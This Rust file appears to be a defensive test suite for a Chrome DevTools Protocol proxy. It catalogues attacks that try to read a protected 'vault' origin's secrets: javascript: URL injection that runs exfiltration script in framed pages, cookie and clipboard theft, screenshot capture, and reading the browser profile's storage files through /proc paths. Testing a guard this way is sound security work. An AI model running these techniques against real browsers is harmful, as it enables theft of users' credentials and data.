//! The attacks. Each is run once straight to Chromium (it must work there) and once through the
//! proxy (it must not). Ids are `<class>.<name>`: `c1` … `c6` are issue 19's classes, `c7` the
//! suite's own ideas.

use std::time::Duration;

use serde_json::{json, Value};
use slicc_browsers::harness::runner::Transport;

use super::app::encode;
use super::{on_site, sleep, Attack, Ctx, Res, Stop, VAULT};

/// Every attack, in run order.
pub fn all() -> Vec<Attack> {
    use Attack as A;
    let mut v = vec![
        // Class 1: out-of-process frames of the client's own page.
        A::new("c1.oopif-js-url", "the client's page points its cross-site iframe at the vault, then Page.navigate javascript: by frameId", oopif_js_url),
        A::new("c1.created-frame-js-url", "the client creates a target that frames the vault, then Page.navigate javascript: by frameId", created_frame_js_url).tries(3),
        A::new("c1.oopif-capture-snapshot", "Page.captureSnapshot of the client's page holding a vault frame", oopif_capture_snapshot),
        A::new("c1.oopif-screenshot", "Page.captureScreenshot of the client's page holding a vault frame", oopif_screenshot).tries(3),
        A::new("c1.oopif-screencast", "Page.startScreencast of the client's page holding a vault frame", oopif_screencast).tries(3),
        A::new("c1.oopif-print-pdf", "Page.printToPDF of the client's page holding a vault frame", oopif_print_pdf).tries(3),
        A::new("c1.oopif-insert-text", "a click into the vault frame's input, then Input.insertText", oopif_insert_text),
        A::new("c1.oopif-key-events", "a click into the vault frame's input, then Input.dispatchKeyEvent", oopif_key_events),
        A::new("c1.oopif-mouse-click", "Input.dispatchMouseEvent on the vault frame's button", oopif_mouse_click),
        A::new("c1.oopif-touch", "Input.dispatchTouchEvent on the vault frame", oopif_touch),
        A::new("c1.oopif-drop", "Input.dispatchDragEvent drops the client's data on the vault frame's drop zone", oopif_drop),
        A::new("c1.oopif-intercept-drags", "Input.setInterceptDrags, then a mouse drag of the vault frame's draggable: Input.dragIntercepted", oopif_intercept_drags),
        A::new("c1.oopif-copy", "selectAll and copy editing commands in the vault frame, paste into the client's textarea", oopif_copy),
        A::new("c1.oopif-paste", "the client's text copied, then a paste editing command in the vault frame's input", oopif_paste),
        A::new("c1.oopif-ime", "Input.imeSetComposition into the vault frame's input", oopif_ime),
        A::new("c1.oopif-auto-attach", "Target.setAutoAttach on the client's page: a session to the vault frame", oopif_auto_attach).tries(3),
        A::new("c1.nested-oopif-insert-text", "a vault frame nested two out-of-process levels down the client's page (pointed there by javascript: in the middle frame), then a click and Input.insertText", nested_oopif_insert_text),
        A::new("c1.created-frame-snapshot", "Page.captureSnapshot of a created target that frames the vault", created_frame_snapshot).tries(3),
        // Class 2: documents committing without the document interception.
        A::new("c2.inflight-redirect", "a slow ordinary redirect to the vault, attached during the hop, with an init script", inflight_redirect).tries(3),
        A::new("c2.inflight-binding", "a slow ordinary redirect to the vault, attached during the hop: Runtime.addBinding called with the secret", inflight_binding).tries(3),
        A::new("c2.inflight-set-document-content", "a slow ordinary redirect to the vault, attached during the hop: Page.setDocumentContent once it commits", inflight_set_document_content).tries(2),
        A::new("c2.inflight-file-input", "a slow ordinary redirect to the vault, attached during the hop: DOM.setFileInputFiles on its file input", inflight_file_input).tries(2),
        A::new("c2.inflight-user-navigation", "the user's ordinary tab is navigating to a slow vault page when the client attaches, with an init script", inflight_user_navigation).tries(3),
        A::new("c2.inflight-user-hop", "the user's ordinary tab follows a slow ordinary redirect to the vault; the client attaches during the hop, with an init script", inflight_user_hop).tries(3),
        A::new("c2.own-page-slow-redirect", "the client's own attached page follows a slow redirect to the vault", own_page_slow_redirect).tries(3),
        A::new("c2.sw-navigation", "the client's page navigates to a page the vault's service worker answers, with an init script", sw_navigation).tries(3),
        A::new("c2.sw-page-navigate", "Page.navigate to a page the vault's service worker answers", sw_page_navigate),
        A::new("c2.bfcache-back", "history.back() into a vault page held in the back/forward cache, with queued evaluates", bfcache_back).tries(3),
        A::new("c2.bfcache-history-entry", "Page.navigateToHistoryEntry into a vault page held in the back/forward cache", bfcache_history_entry).tries(3),
        A::new("c2.back-no-store", "history.back() into a no-store vault page (a network reload)", back_no_store).tries(3),
        // Class 3: browser-internal pages.
        A::new("c3.chrome-history", "chrome://history lists a visited vault URL with its secret query", chrome_history).tries(3),
        A::new("c3.chrome-history-navigate", "the client's page navigates itself to chrome://history", chrome_history_navigate).tries(3),
        A::new("c3.chrome-inspect", "chrome://inspect lists the vault tab's URL", chrome_inspect),
        A::new("c3.process-internals", "chrome://process-internals lists the vault tab's URL", process_internals),
        A::new("c3.serviceworker-internals", "chrome://serviceworker-internals lists the vault worker's script URL", serviceworker_internals),
        A::new("c3.settings-permission", "chrome://settings grants the vault a permission through its own chrome.send", settings_permission),
        A::new("c3.auto-attach-webui", "browser-wide auto-attach gives sessions to browser-internal targets; one navigates to chrome://history", auto_attach_webui),
        // Class 4: profiling.
        A::new("c4.tracing-page-session", "Tracing on the client's own page session records another tab's vault URL", tracing_page_session),
        A::new("c4.tracing-stream", "Tracing on the client's page session returned as an IO stream", tracing_stream),
        A::new("c4.heap-snapshot-same-site", "HeapProfiler.takeHeapSnapshot of a page sharing its renderer with the extra origin's page", heap_snapshot_same_site),
        A::new("c4.cpu-profile-same-site", "Profiler on a page sharing its renderer with the extra origin's page", cpu_profile_same_site).tries(3),
        A::new("c4.coverage-same-site", "Profiler precise coverage on a page sharing its renderer with the extra origin's page", coverage_same_site),
        // Class 5: the proxy's own surfaces.
        A::new("c5.json-list-popup", "/json/list lists an about:blank popup a vault page opened and titled", json_list_popup),
        A::new("c5.json-alias-popup", "/json (the list's alias) lists an about:blank popup a vault page opened and titled", json_alias_popup),
        A::new("c5.get-targets-popup", "Target.getTargets lists an about:blank popup a vault page opened and titled", get_targets_popup),
        A::baseline("c5.unknown-session", "a command on a session id nobody has gets no answer", unknown_session),
        A::new("c5.json-list-vault", "/json/list lists the vault tab", json_list_vault),
        A::new("c5.json-new-vault", "/json/new opens the vault", json_new_vault),
        A::new("c5.json-close-vault", "/json/close closes the vault tab by id", json_close_vault),
        A::new("c5.page-websocket", "the proxy's /devtools/page/<vault id> WebSocket", page_websocket),
        // Class 6: client headers on protected subresources.
        A::new("c6.extra-headers-subresource", "Network.setExtraHTTPHeaders reaches a vault subresource request", extra_headers_subresource),
        A::new("c6.ua-override-subresource", "Network.setUserAgentOverride reaches a vault subresource request", ua_override_subresource),
        A::new("c6.emulation-ua-subresource", "Emulation.setUserAgentOverride reaches a vault subresource request", emulation_ua_subresource),
        A::new("c6.accept-language-subresource", "an Accept-Language override reaches a vault subresource request", accept_language_subresource),
        A::new("c6.cookie-header-subresource", "a Cookie header set with Network.setExtraHTTPHeaders reaches a vault subresource request", cookie_header_subresource),
        A::new("c6.extra-headers-redirect", "Network.setExtraHTTPHeaders reaches a vault subresource at the end of an ordinary redirect", extra_headers_redirect),
        A::new("c6.extra-headers-websocket", "Network.setExtraHTTPHeaders reaches a WebSocket handshake to the vault", extra_headers_websocket),
        A::new("c6.worker-session-headers", "Network.setExtraHTTPHeaders on the session of the page's dedicated worker reaches the worker's vault request", worker_session_headers),
        A::new("c6.fetch-header-subresource", "Fetch.continueRequest adds a header to a vault subresource request", fetch_header_subresource),
        // Class 7: other ways in.
        A::new("c7.create-target-vault", "Target.createTarget on the vault, attach, evaluate", create_target_vault),
        A::new("c7.url-variants", "Page.navigate to the vault spelled with a trailing dot, a port, user info, upper case", url_variants),
        A::new("c7.view-source", "Target.createTarget on view-source: of the vault", view_source),
        A::new("c7.blob-url", "Target.createTarget on a blob: URL the vault made", blob_url),
        A::new("c7.get-cookies-urls", "Network.getCookies with the vault's URL", get_cookies_urls),
        A::new("c7.get-all-cookies", "Network.getAllCookies", get_all_cookies),
        A::new("c7.storage-get-cookies", "Storage.getCookies", storage_get_cookies),
        A::new("c7.cookie-url-variants", "Network.getCookies with the vault's URL spelled as ws:, a trailing dot, upper case", cookie_url_variants),
        A::new("c7.get-cookies-mixed-urls", "Network.getCookies naming an ordinary URL with the vault's, in several spellings", get_cookies_mixed_urls),
        A::new("c7.clear-user-cookies", "Storage.clearCookies of the user's default context wipes the vault's cookie", clear_user_cookies),
        A::new("c7.clear-user-cookies-named", "Storage.clearCookies naming the user's default context by its id", clear_user_cookies_named),
        A::new("c7.set-parent-cookie", "Storage.setCookies on .sliccy.ai reaches the vault", set_parent_cookie),
        A::new("c7.grant-permissions", "Browser.grantPermissions to the vault", grant_permissions),
        A::new("c7.set-permission", "Browser.setPermission for the vault", set_permission),
        A::new("c7.fetch-browser-session", "Fetch.enable on the browser session sees the vault's requests", fetch_browser_session),
        A::new("c7.fetch-fulfill-browser", "Fetch on the browser session fulfills the vault's document", fetch_fulfill_browser),
        A::new("c7.fetch-response-body", "Fetch at the response stage on the client's page reads a vault response", fetch_response_body),
        A::new("c7.network-response-body", "Network.getResponseBody on guessed ids around a vault subresource", network_response_body),
        A::new("c7.load-network-resource", "Network.loadNetworkResource of the vault's secret with credentials", load_network_resource),
        A::new("c7.page-resource-content", "Page.getResourceContent of a vault script the client's page loaded", page_resource_content),
        A::new("c7.debugger-script-source", "Debugger.getScriptSource of a vault script the client's page loaded", debugger_script_source),
        A::new("c7.debugger-search-in-content", "Debugger.searchInContent of a vault script the client's page loaded", debugger_search_in_content),
        A::new("c7.debugger-script-id-guess", "Debugger.getScriptSource on every script id up to past the last one shown", debugger_script_id_guess),
        A::new("c7.debugger-breakpoint-scope", "a breakpoint by URL regex in a vault script the client's page loads: its local scope at the pause", debugger_breakpoint_scope),
        A::new("c7.function-scopes", "Runtime.getProperties of a vault script's event listener: its [[Scopes]] closure", function_scopes),
        A::new("c7.scopes-object-id-guess", "Runtime.getProperties of a vault listener, then of guessed object ids after the handler's: its [[Scopes]] closure", scopes_object_id_guess),
        A::new("c7.query-objects", "Runtime.queryObjects(Object.prototype) in a page that ran a vault script: its private objects", query_objects),
        A::new("c7.css-stylesheet-text", "CSS.getStyleSheetText of a vault stylesheet the client's page loaded", css_stylesheet_text),
        A::new("c7.page-search-in-resource", "Page.searchInResource of a vault script the client's page loaded", page_search_in_resource),
        A::new("c7.download-behavior", "Browser.setDownloadBehavior: the vault's download is announced to the client", download_behavior),
        A::new("c7.expose-devtools-protocol", "Target.exposeDevToolsProtocol gives the client's page its own CDP channel", expose_devtools_protocol),
        A::new("c7.popup-auto-attach", "browser-wide auto-attach (paused), then the client's page opens the vault in a popup", popup_auto_attach).tries(3),
        A::new("c7.popup-loads-init-script", "the client's page opens the vault in a popup the client holds (auto-attach, paused) with an init script: the popup loads for the user", popup_loads_init_script).tries(2),
        A::new("c7.popup-loads-binding", "the same popup with a binding the client added: the vault's document has it", popup_loads_binding).tries(2),
        A::new("c7.popup-loads-bypass-csp", "the same popup with the CSP bypassed: the vault's inline script runs against its CSP", popup_loads_bypass_csp).tries(2),
        A::new("c7.popup-loads-override", "the same popup with the client's user agent override: the vault's server sees it", popup_loads_override).tries(2),
        A::new("c7.attach-vault-popup", "Target.attachToTarget on the about:blank popup a vault page opened", attach_vault_popup),
        A::new("c7.attach-vault-by-id", "Target.attachToTarget on the vault tab's id", attach_vault_by_id),
        A::new("c7.close-vault-by-id", "Target.closeTarget on the vault tab's id", close_vault_by_id),
        A::new("c7.tab-target", "attach to the vault's tab target, then auto-attach to its page", tab_target),
        A::new("c7.browser-target-session", "Target.attachToBrowserTarget, then attach to the vault there", browser_target_session),
        A::new("c7.browser-context-vault", "Target.createBrowserContext, then the vault in it", browser_context_vault),
        A::new("c7.sw-attach", "Target.attachToTarget on the vault's service worker", sw_attach),
        A::new("c7.shared-worker-attach", "Target.attachToTarget on the vault's shared worker", shared_worker_attach),
        A::new("c7.sw-registrations", "ServiceWorker.enable reports the vault's worker script URL", sw_registrations),
        A::new("c7.sw-push", "ServiceWorker.deliverPushMessage to the vault's worker", sw_push),
        // session 6
        A::new("c2.popup-touched-hop", "the client's page opens a popup on a slow ordinary redirect to the vault and touches its initial document; the client attaches during the hop, with an init script", popup_touched_hop).tries(3),
        A::new("c2.popup-noopener-hop", "the client's page opens a noopener popup on a slow ordinary redirect to the vault; the client attaches during the hop, with an init script", popup_noopener_hop).tries(3),
        A::new("c2.inflight-new-context", "Target.createTarget in a new browser context (newWindow, background) on a slow ordinary redirect to the vault, attached during the hop, with an init script", inflight_new_context).tries(3),
        A::new("c7.timezone-same-site", "Emulation.setTimezoneOverride on the client's page reaches the extra origin's same-site popup (one renderer)", timezone_same_site).tries(2),
        A::new("c7.locale-same-site", "Emulation.setLocaleOverride on the client's page reaches the extra origin's same-site popup (one renderer)", locale_same_site).tries(2),
        A::new("c7.dispose-user-context", "Target.disposeBrowserContext on the user's browser context closes the vault tab in it", dispose_user_context),
        A::new("c7.browser-close", "Browser.close closes the user's vault tab with the browser", browser_close),
        A::new("c7.virtual-time-same-site", "Emulation.setVirtualTimePolicy on the client's page moves the clock of the extra origin's same-site popup (one renderer)", virtual_time_same_site).tries(2),
        A::new("c7.timezone-then-same-site", "Emulation.setTimezoneOverride on the client's page on another site, which then goes to a page same-site with the extra origin and opens its app in a popup", timezone_then_same_site).tries(2),
        A::new("c7.offline-same-site", "Network.emulateNetworkConditions offline on the client's page reaches navigator.onLine of the extra origin's same-site popup (one renderer)", offline_same_site).tries(2),
        A::new("c7.file-input-profile", "DOM.setFileInputFiles puts the profile's Local Storage and IndexedDB files (the well-known profile path) into the client's page, which reads the vault's data", file_input_profile),
        A::new("c7.file-url-profile", "the client's page navigates to the profile's Local Storage and IndexedDB files by file: URL", file_url_profile),
        A::new("c7.download-path-popup", "Browser.setDownloadBehavior to the client's folder, then the client's page opens a vault download in a popup; the page reads the folder back (a drop)", download_path_popup),
        A::new("c2.prefetch-navigation", "the client's page (init script, a fresh browser context) prefetches the vault app by speculation rules; its own script navigates there 800 ms later", prefetch_navigation).tries(2),
        A::new("c2.prefetch-at-once", "the client's page (init script, a fresh browser context) prefetches the vault app by speculation rules and navigates there in the same task", prefetch_at_once).tries(3),
        A::new("c2.prefetch-before-attach", "the user's ordinary tab (a fresh context) prefetched the vault before the client attached (init script); then the page navigates there", prefetch_before_attach).tries(3),
        A::new("c2.prefetch-hop-before-attach", "the user's ordinary tab (a fresh context) prefetched an ordinary redirect to the vault before the client attached (init script); then the page navigates there", prefetch_hop_before_attach).tries(3),
        A::new("c2.prefetch-hop-after-attach", "the client's page (init script, a fresh browser context) prefetches an ordinary redirect to the vault; its own script navigates there 800 ms later", prefetch_hop_after_attach).tries(2),
        A::new("c2.prefetch-same-site", "the client's page on other.client.example (init script) prefetches the extra origin's app by speculation rules; its own script navigates there 800 ms later", prefetch_same_site).tries(2),
        A::new("c2.auto-attach-user-tab", "browser-wide auto-attach (paused); the user opens a tab on a slow ordinary redirect to the vault: init script on the auto-attached session", auto_attach_user_tab).tries(2),
        A::new("c2.auto-attach-user-tab-flood", "c2.auto-attach-user-tab, with the client's own page making a flood of requests (events the policy reads and withholds) as the redirect lands: the cut on the hop comes late", auto_attach_user_tab_flood).tries(2),
        A::new("c1.user-framed-at-attach", "the user's ordinary tab already frames the vault when the client attaches: Page.captureSnapshot at once", user_framed_at_attach),
        A::new("c1.same-site-frame-at-attach", "the user's tab on other.client.example already frames the extra origin's app (one renderer) when the client attaches: DOM.getDocument with pierce", same_site_frame_at_attach),
        A::new("c7.fetch-rewrite-url", "Fetch.continueRequest rewrites the URL of the client's own document request to the vault (or a hop to it)", fetch_rewrite_url),
        A::new("c7.drag-files-profile", "Input.dispatchDragEvent drops the profile's storage files on the client's page, which reads the vault's data", drag_files_profile),
        A::new("c7.clipboard-read", "the user copies the vault's secret; the client grants its page clipboard access and reads it", clipboard_read),
        A::new("c1.auto-attach-off", "the client turns its page session's auto-attach off, then its page frames the vault: Page.captureSnapshot", auto_attach_off).tries(2),
        A::new("c7.worker-script-source", "the client's page runs a worker that imports a vault script: Debugger.getScriptSource on the worker's session (ids shown or guessed)", worker_script_source),
        // session 7: the profile's files by other spellings of their paths
        A::new("c7.file-input-symlink", "DOM.setFileInputFiles with the profile's storage files through a symbolic link in another folder", file_input_symlink),
        A::new("c7.drag-profile-parent", "Input.dispatchDragEvent drops the folder holding the profile; the page walks into the profile's Local Storage", drag_profile_parent),
        A::new("c7.file-input-proc-root", "DOM.setFileInputFiles with the profile's storage files by /proc/self/root/<path>", file_input_proc_root),
        // session 7: downloads into the client's folder, read back by its page (a drop)
        A::new("c7.download-hop-popup", "a popup of the client's page on an ordinary redirect to the vault's download, into the client's folder; the page reads it back", download_hop_popup),
        A::new("c7.download-anchor", "the client's page itself downloads the vault's file (<a download>) into the client's folder; the page reads it back", download_anchor),
        A::new("c7.download-named", "allowAndName (the file named by its guid) and a vault download in a popup; the page reads the folder back", download_named),
        A::new("c7.download-late-behavior", "the popup's slow redirect to the vault's download is under way when the client chooses its folder; the page reads it back", download_late_behavior),
        A::new("c7.download-second-context", "the client's own browser context, its folder, a vault download in a popup there; the page reads it back", download_second_context),
        A::new("c7.download-page-behavior", "Page.setDownloadBehavior to the client's folder, then a vault download in a popup; the page reads it back", download_page_behavior),
        A::new("c7.download-predrop", "the client's page is handed its download folder (a drop) first, then a popup downloads the vault's file (a redirect: the cancel loses the race); the page walks the folder it holds", download_predrop),
        // session 7: the user's clipboard, by other routes than c7.clipboard-read's
        A::new("c7.clipboard-ctrl-v", "the user copies the vault's secret; the client presses Ctrl+V in its page's text area", clipboard_ctrl_v),
        A::new("c7.clipboard-shift-insert", "the user copies the vault's secret; the client presses Shift+Insert in its page's text area", clipboard_shift_insert),
        A::new("c7.clipboard-paste-key", "the user copies the vault's secret; the client presses the Paste key in its page's text area", clipboard_paste_key),
        A::new("c7.clipboard-grant", "the user copies the vault's secret; Browser.grantPermissions clipboardReadWrite to the client's loopback page, which reads it", clipboard_grant),
        A::new("c7.clipboard-own-context", "the user copies the vault's secret; the client's own browser context, clipboardReadWrite granted there: its page reads it (one clipboard)", clipboard_own_context),
        A::new("c7.clipboard-set-permission", "the user copies the vault's secret; Browser.setPermission clipboard-read granted to the client's loopback page, which reads it", clipboard_set_permission),
        A::new("c7.clipboard-unsanitized-write", "the user copies the vault's secret; Browser.setPermission clipboard-write without sanitization (read and write to Chromium) to the client's loopback page, which reads it", clipboard_unsanitized_write),
        A::new("c7.file-input-proc-fd", "DOM.setFileInputFiles with /proc/<pid>/fd/<n> of the storage service SystemInfo.getProcessInfo names: its open Local Storage log", file_input_proc_fd),
        // session 8: protected content the client's own ordinary page loads
        A::new("c7.image-screenshot", "the client's page same-site with the extra origin shows its image (the user's cookie goes with it): Page.captureScreenshot reads the pixels a page cannot", image_screenshot),
        A::new("c7.image-mhtml", "the client's same-site page shows the extra origin's image: Page.captureSnapshot holds its bytes", image_mhtml),
        A::new("c7.image-object", "the client's same-site page shows the extra origin's image in an <object> (Fetch's type Other): Page.captureScreenshot", image_object),
        A::new("c7.image-css", "the client's same-site page shows the extra origin's image as a CSS background: Page.captureScreenshot", image_css),
        A::new("c7.image-hop", "the client's same-site page shows the extra origin's image through an ordinary redirect: Page.captureScreenshot", image_hop),
        A::new("c7.image-screencast", "Page.startScreencast on the client's same-site page, which then shows the extra origin's image", image_screencast),
        A::new("c7.image-before-attach", "the client makes a target on its same-site page showing the extra origin's image and attaches once it loaded: Page.captureScreenshot", image_before_attach),
        A::new("c7.image-mhtml-before-attach", "the client makes a target on its same-site page showing the extra origin's image and attaches once it loaded: Page.captureSnapshot", image_mhtml_before_attach),
        A::new("c7.debugger-script-hop", "the client's page runs a vault script through an ordinary redirect (Debugger.scriptParsed names the redirect's URL): Debugger.getScriptSource", debugger_script_hop),
        A::new("c7.resource-content-hop", "the client's page runs a vault script through an ordinary redirect: Page.getResourceContent by the redirect's URL", resource_content_hop),
        A::new("c7.search-resource-hop", "the client's page runs a vault script through an ordinary redirect: Page.searchInResource by the redirect's URL", search_resource_hop),
        A::new("c7.debugger-hop-before-attach", "the client makes a target on a page running a vault script through an ordinary redirect and attaches once it ran: Debugger.getScriptSource", debugger_hop_before_attach),
        A::new("c7.load-network-resource-hop", "Network.loadNetworkResource of an ordinary redirect to a vault script", load_network_resource_hop),
        A::new("c7.css-matched-rules", "the client's page applies a vault stylesheet (the secret in a selector): CSS.getMatchedStylesForNode of the element it matches", css_matched_rules),
        A::new("c7.css-matched-hop", "the client's page applies a vault stylesheet through an ordinary redirect: CSS.getMatchedStylesForNode", css_matched_hop),
        A::new("c7.css-mhtml", "the client's page applies a vault stylesheet (the secret in a selector): Page.captureSnapshot serializes its rules", css_mhtml),
        A::new("c7.css-mhtml-hop", "the client's page applies a vault stylesheet through an ordinary redirect: Page.captureSnapshot serializes its rules", css_mhtml_hop),
        A::new("c7.css-import-matched", "the client's page applies an ordinary <style> that @imports the vault stylesheet (the secret in a selector): CSS.getMatchedStylesForNode", css_import_matched),
        A::new("c7.css-import-mhtml", "the client's page applies an ordinary <style> that @imports the vault stylesheet: Page.captureSnapshot", css_import_mhtml),
        A::new("c7.worker-import-hop", "a worker of the client's page imports a vault script through an ordinary redirect: Debugger.getScriptSource on the worker's session", worker_import_hop),
        A::new("c7.cache-opaque-stash", "the client's page puts an opaque (no-cors) response of a vault script in its own Cache Storage: CacheStorage.requestCachedResponse reads the body the page cannot", cache_opaque_stash),
        A::new("c7.image-prerender", "the client's same-site page prerenders (speculation rules) a page of its own site showing the extra origin's image, then goes there: Page.captureScreenshot", image_prerender).tries(2),
        A::new("c7.response-body-race", "Network.getResponseBody and streamResourceContent, sent over and over (four at a time) on the id of an ordinary request from its start, while a slow ordinary redirect takes it to a vault script", response_body_race).tries(3),
        A::new("c7.resource-content-before-attach", "the client makes a target on a page running a vault script through an ordinary redirect and attaches once it ran: Page.getResourceContent", resource_content_before_attach),
        A::new("c7.image-sw-opaque", "the client's same-site page registers its own service worker, which answers an ordinary image URL with a no-cors fetch of the extra origin's image (the user's cookie goes with it): Page.captureScreenshot", image_sw_opaque),
        // session 9: the browser's own DevTools endpoint as a page of the client's
        A::new("c7.devtools-endpoint-page", "a tab on the browser's own DevTools endpoint (http://127.0.0.1:<port>/json/version): on that origin the page's script opens the browser WebSocket, with no guard, and reads the vault", devtools_endpoint_page),
        A::new("c7.devtools-endpoint-hop", "the client's page goes through an ordinary redirect to the browser's own DevTools endpoint, whose page opens the browser WebSocket and reads the vault", devtools_endpoint_hop),
        A::new("c7.devtools-endpoint-localhost", "a tab on http://localhost:<port>/json/list (the endpoint by another name: no WebSocket there, but every tab's URL, the vault's among them)", devtools_endpoint_localhost),
        A::new("c7.devtools-endpoint-fetch-list", "the client's page fetches the endpoint's /json/list (no-cors, by the name localhost) and the client reads the response body with Fetch at the Response stage: every tab's URL, the vault's among them", devtools_endpoint_fetch_list),
        A::new("c7.cookie-other-port", "the user signs in to the extra origin's app; the client opens a page on another port of the same host (any local server there, the proxy's own /json/version on localhost): cookies do not keep to a port, so document.cookie holds the app's", cookie_other_port),
        // session 8, helper commits: documents committing, the proxy's surfaces
        A::new("c5.json-list-opener-left", "/json/list lists the about:blank popup a vault page titled, once the vault tab went to an ordinary page", json_list_opener_left),
        A::new("c5.json-list-opener-closed", "/json/list lists the about:blank popup a vault page titled, once the vault tab is closed", json_list_opener_closed),
        A::new("c5.get-targets-opener-left", "a client connecting after the vault tab went to an ordinary page: Target.getTargets lists the vault's titled about:blank popup", get_targets_opener_left),
        A::new("c5.attach-popup-opener-left", "a client connecting after the vault tab went to an ordinary page attaches to the vault's about:blank popup and evaluates there", attach_popup_opener_left),
        // session 9, helper attacks: races the client can tilt (a flood of events the policy
        // reads ahead of the one it must react to)
        A::new("c2.inflight-same-site-frame", "the client makes a tab on other.client.example whose iframe is loading the extra origin's slow app (one renderer) and attaches during the load, with an init script", inflight_same_site_frame).tries(2),
        A::new("c2.inflight-same-site-frame-hop-flood", "c2.inflight-same-site-frame through a slow ordinary redirect (the policy reads the hop 2.5 s before the commit), the client's own page flooding requests meanwhile", inflight_same_site_frame_hop_flood).tries(2),
        A::new("c2.inflight-user-hop-flood", "c2.inflight-user-hop, the client's own page flooding requests (events the policy reads and withholds) from before the attach until after the redirect lands", inflight_user_hop_flood).tries(2),
        A::new("c2.prefetch-same-site-flood", "c2.prefetch-same-site (the extra origin's app prefetched with the user's cookies from other.client.example), the page flooding requests from before the prefetch until it navigates", prefetch_same_site_flood).tries(2),
        A::new("c2.prefetch-navigation-flood", "c2.prefetch-navigation, the page flooding requests (events the policy reads and withholds) from before the prefetch until it navigates", prefetch_navigation_flood).tries(2),
        // default deny (issue 30): browser-wide resets that reach protected origins, an origin in
        // a secondary role, commands in no list of the policy's
        A::new("c7.reset-permissions", "the user's permission override for the vault (geolocation); Browser.resetPermissions with no origin takes it back", reset_permissions),
        A::new("c7.clear-browser-cache", "the user's vault page is in the HTTP cache (max-age); Network.clearBrowserCache on the client's page session wipes it: the vault is fetched again", clear_browser_cache),
        A::new("c7.stop-all-workers", "the vault's service worker is running; ServiceWorker.stopAllWorkers on the client's page session stops it", stop_all_workers),
        A::new("c7.stop-worker-guessed", "the vault's service worker is running; ServiceWorker.stopWorker on guessed version ids (small numbers) stops it", stop_worker_guessed),
        A::new("c7.permission-embedded-origin", "Browser.setPermission storage-access with an ordinary origin and the vault as embeddedOrigin: the vault framed in the client's page holds the permission", permission_embedded_origin),
        A::new("c7.sw-error-reported", "ServiceWorker.enable on the client's page session: ServiceWorker.workerErrorReported of the vault's worker (its message and source URL hold the secret)", sw_error_reported),
    ];
    v.extend(super::reach::all());
    v
}

// ---- helpers ----

/// The client's ordinary page: `http://ordinary.test/page`, framing `frame` if given. Waits
/// until it is complete; (target, session).
pub(super) fn client_page(ctx: &Ctx, frame: Option<&str>) -> Result<(String, String), Stop> {
    let path = match frame {
        Some(f) => format!("/page?frame={}", encode(f)),
        None => "/page".to_string(),
    };
    let url = ctx.url("http://ordinary.test", &path);
    let (t, s) = ctx.open(&url)?;
    ctx.wait_true(
        &s,
        &format!(
            "location.href === {} && document.readyState === 'complete'",
            json!(url)
        ),
        10_000,
    )?;
    Ok((t, s))
}

/// The frame id of the client page's `#f` iframe.
fn frame_id(ctx: &Ctx, session: &str) -> Result<String, Stop> {
    let r = ctx.send(
        "Runtime.evaluate",
        json!({"expression": "document.getElementById('f')"}),
        Some(session),
    )?;
    let object = r["result"]["objectId"].clone();
    let d = ctx.send(
        "DOM.describeNode",
        json!({"objectId": object}),
        Some(session),
    )?;
    d["node"]["frameId"]
        .as_str()
        .map(String::from)
        .ok_or_else(|| Stop::Failed(format!("no frame id in {d}")))
}

/// The client's page holding a vault frame.
struct Framed {
    target: String,
    session: String,
    frame: String,
}

/// The client's page with its cross-site iframe pointed (by the page's own script) at the
/// vault app; waits until the app reports it loaded.
fn oopif(ctx: &Ctx) -> Result<Framed, Stop> {
    oopif_at(ctx, &ctx.vault("/app"))
}

fn oopif_at(ctx: &Ctx, url: &str) -> Result<Framed, Stop> {
    let (target, session) = client_page(ctx, Some("http://plain.example/page?t=x"))?;
    ctx.eval(
        &session,
        &format!("document.getElementById('f').src = {}; true", json!(url)),
    )?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Failed("the vault frame never loaded".into()));
    }
    sleep(300);
    let frame = frame_id(ctx, &session)?;
    Ok(Framed {
        target,
        session,
        frame,
    })
}

/// A mouse click at (x, y) through the client's page session.
fn click(ctx: &Ctx, s: &str, x: f64, y: f64) -> Result<(), Stop> {
    for kind in ["mousePressed", "mouseReleased"] {
        ctx.send(
            "Input.dispatchMouseEvent",
            json!({"type": kind, "x": x, "y": y, "button": "left", "clickCount": 1}),
            Some(s),
        )?;
    }
    Ok(())
}

/// Every text, attribute and shadow root under the document, as one string.
const DEEP_TEXT: &str = "(() => { const out = []; const walk = (n) => { if (n.nodeType === 3) out.push(n.data); \
    if (n.attributes) for (const a of n.attributes) out.push(a.value); if (n.shadowRoot) walk(n.shadowRoot); \
    for (const c of n.childNodes) walk(c); }; walk(document.documentElement); return out.join('\\n'); })()";

/// Polls the deep text of the client's `session` until it holds the secret (at most `ms`).
/// How long an attack polls chrome://history for the visited secret URL. Chromium writes
/// history in the background; at load average 50 on two cores 6 s was not enough for the
/// unguarded leg (twice in a row), so the attack "did not work unguarded" and the suite failed.
/// Through a guard the page is refused before any polling, so the bound costs nothing there.
const HISTORY_MS: u64 = 15_000;

fn deep_text_holds_secret(ctx: &Ctx, session: &str, what: &str, ms: u64) -> Res {
    let deadline = std::time::Instant::now() + Duration::from_millis(ms);
    let mut last = String::new();
    loop {
        if let Ok(Value::String(text)) = ctx.eval(session, DEEP_TEXT) {
            if text.contains(ctx.secret()) {
                return ctx.holds_secret(what, &text);
            }
            last = text;
        }
        if std::time::Instant::now() >= deadline {
            return ctx.holds_secret(what, &last);
        }
        sleep(250);
    }
}

/// The user visits the vault with the secret in the URL's query (a reset link, say).
fn user_visits_secret_url(ctx: &Ctx) -> Result<String, Stop> {
    let url = format!("{}&k={}", ctx.vault("/app"), ctx.secret());
    ctx.user_open(&url)
}

// ---- class 1: out-of-process frames ----

fn oopif_js_url(ctx: &Ctx) -> Res {
    let Framed {
        session: s,
        frame: f,
        ..
    } = oopif(ctx)?;
    let _ = ctx.send(
        "Page.navigate",
        json!({"frameId": f, "url": format!("javascript:{}", ctx.exfil_js())}),
        Some(&s),
    );
    ctx.exfiltrated(4000)
}

fn created_frame_js_url(ctx: &Ctx) -> Res {
    let (_, s) = ctx.open(&ctx.url(
        "http://ordinary.test",
        &format!("/page?frame={}", encode(&ctx.vault("/app"))),
    ))?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Failed("the vault frame never loaded".into()));
    }
    ctx.wait_true(&s, "document.readyState === 'complete'", 5000)?;
    let f = frame_id(ctx, &s)?;
    let _ = ctx.send(
        "Page.navigate",
        json!({"frameId": f, "url": format!("javascript:{}", ctx.exfil_js())}),
        Some(&s),
    );
    ctx.exfiltrated(4000)
}

